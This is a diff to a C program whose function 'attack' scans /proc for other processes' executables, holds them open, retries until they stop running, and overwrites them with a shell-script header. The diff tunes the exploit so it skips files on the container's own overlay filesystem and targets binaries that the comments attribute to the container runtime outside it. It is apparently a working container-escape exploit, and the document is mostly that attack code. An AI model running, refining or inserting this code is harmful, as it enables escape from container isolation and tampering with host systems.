@@ -7,26 +7,31 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <linux/magic.h>
 #include <sys/stat.h>
+#include <sys/vfs.h>
 #include <time.h>
 #include <unistd.h>
 
 static void attack(const char *pid, const struct stat *own) {
   char path[300], link[256];
   snprintf(path, sizeof path, "/proc/%s/exe", pid);
-  ssize_t length = readlink(path, link, sizeof link - 1);
   int held = open(path, O_PATH);
   if (held < 0) return;
   struct stat found;
+  struct statfs system;
   char again[64];
   snprintf(again, sizeof again, "/proc/self/fd/%d", held);
-  if (fstat(held, &found) == 0 && (found.st_ino != own->st_ino || found.st_dev != own->st_dev)) {
+  // of what is held: the process may have executed something else since
+  ssize_t length = readlink(again, link, sizeof link - 1);
+  // Files of the container's own overlay are its to overwrite; the runtime's lie elsewhere.
+  if (fstatfs(held, &system) == 0 && system.f_type != OVERLAYFS_SUPER_MAGIC && fstat(held, &found) == 0 && (found.st_ino != own->st_ino || found.st_dev != own->st_dev)) {
     link[length > 0 ? length : 0] = 0;
     // The process has to end before its file can be written (ETXTBSY), so the attack keeps asking for a while.
     for (int attempt = 0; attempt < 2000; attempt++) {
       int file = open(again, O_WRONLY);
       if (file >= 0) {
-        if (!strstr(link, "busybox") && write(file, "#!/bin/sh\n", 10) == 10) printf("overwritten %s\n", link);
+        if (write(file, "#!/bin/sh\n", 10) == 10) printf("overwritten %s\n", link);
         close(file);
         break;
       }
